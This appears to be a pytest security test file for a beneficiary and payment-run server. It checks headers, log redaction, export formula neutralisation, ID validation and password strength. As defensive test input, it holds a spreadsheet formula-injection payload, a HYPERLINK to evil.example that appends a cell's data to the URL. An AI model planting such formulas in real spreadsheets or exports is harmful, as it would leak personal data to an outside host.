"""Security details every response and export must get right: headers, no personal data in logs or
caches, formulas neutralised in spreadsheets, no made-up ID prefixes, no common passwords."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import logging
import re
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from server import db
from server.models import StaffRole
from server.services import staff
from server.services.audit import Actor
from server.services.errors import DomainError
from tests.conftest import beneficiary_body, check_character, office_today
from tests.support.jobs import payment_run

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'


@pytest.mark.parametrize("path", ["/api/v1/me", "/api/v1/nowhere", "/openapi.json", "/docs"])
def test_every_response_carries_the_security_headers(api, world, path):
    response = api.as_("supervisor_a").get(path)
    headers = response.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    # No address (a person's id is in many) leaves for another site; the console's own forms carry theirs.
    assert headers["Referrer-Policy"] == "same-origin"
    policy = headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "img-src 'self' data: blob:" in policy
    assert "media-src 'self' blob:" in policy
    if path != "/docs":
        assert "unsafe-inline" not in policy
    # Plain HTTP here: pinning HTTPS over HTTP would be meaningless.
    assert "Strict-Transport-Security" not in headers
    if path.startswith("/api/"):
        assert headers["Cache-Control"] == "no-store"


def test_the_docs_page_may_run_exactly_its_own_inline_script(api, world):
    page = api.get("/docs")
    script = re.search(r"<script>(.*?)</script>", page.text, re.DOTALL).group(1).encode()
    digest = base64.b64encode(hashlib.sha256(script).digest()).decode()
    policy = page.headers["Content-Security-Policy"]
    assert f"script-src 'self' 'sha256-{digest}'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]


def test_hsts_only_over_https(app):
    client = app.test_client()
    assert "Strict-Transport-Security" in client.get("/openapi.json", base_url="https://fieldcheck.local").headers
    assert "Strict-Transport-Security" not in client.get("/openapi.json").headers


def test_a_database_error_logs_neither_its_parameters_nor_the_value_refused(app, world, caplog):
    # A value PostgreSQL refuses, bound as a parameter, failing inside a request as a bug would.
    with app.test_request_context("/api/v1/beneficiaries"), caplog.at_level(logging.ERROR):
        try:
            db.session().execute(text("SELECT CAST(:name AS integer)"), {"name": "周老汉"})
        except DBAPIError as exc:
            assert "周老汉" not in exc.statement
            assert "[SQL parameters hidden due to hide_parameters=True]" in str(exc)
            response = app.make_response(app.handle_user_exception(exc))
    assert response.status_code == 500
    assert response.get_json()["code"] == 500
    assert "SELECT CAST" in caplog.text
    assert "InvalidTextRepresentation" in caplog.text
    assert "周老汉" not in caplog.text


def _formula_person(api, world) -> None:
    body = beneficiary_body(world["village_a"], 1, name=FORMULA, household_code="@SUM(1+1)")
    assert api.as_("supervisor_a").post("/api/v1/beneficiaries", json=body).status_code == 201


@pytest.mark.usefixtures("celery_worker")
def test_payment_run_exports_neutralise_formula_cells(api, world):
    _formula_person(api, world)
    supervisor = api.as_("supervisor_a")
    period = datetime.now(UTC).strftime("%Y-%m")
    run = payment_run(supervisor, period, world["township_a"])
    exported = supervisor.get(f"/api/v1/payment-runs/{run['id']}/export", params={"format": "csv"})
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA
    xlsx = supervisor.get(f"/api/v1/payment-runs/{run['id']}/export", params={"format": "xlsx"})
    cell = load_workbook(io.BytesIO(xlsx.content)).active["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA


def test_the_coverage_export_neutralises_formula_cells(api, world):
    admin = api.as_("admin")
    created = admin.post("/api/v1/regions", json={"code": world["township_a"] + "002", "name": "-2+3"})
    assert created.status_code == 201, created.text
    today = office_today().isoformat()
    report = admin.get(
        "/api/v1/reports/coverage",
        params={"region": world["township_a"], "from": "2026-01-01", "to": today, "format": "csv"},
    )
    assert report.status_code == 200, report.text
    names = [row["name"] for row in csv.DictReader(io.StringIO(report.content.decode("utf-8-sig")))]
    assert "'-2+3" in names


def test_an_id_number_whose_prefix_is_no_division_is_refused(api, world):
    first17 = "99999919450312001"
    body = beneficiary_body(world["village_a"], 1, id_number=first17 + check_character(first17))
    response = api.as_("supervisor_a").post("/api/v1/beneficiaries", json=body)
    assert response.status_code == 422
    assert response.json()["errors"] == {"id_number": ["unknown_division"]}


@pytest.mark.parametrize("password", ["aaaaaaaaaa", "1234567890"])
def test_staff_accounts_refuse_common_and_trivial_passwords(app, world, password):
    with app.app_context(), pytest.raises(DomainError) as refused:
        staff.create_staff_user(
            db.session(),
            actor=Actor(kind="system", id="test"),
            username="weak",
            password=password,
            role=StaffRole.FIELD_WORKER,
            region_code=world["village_a"],
        )
    assert list(refused.value.errors) == ["password"]
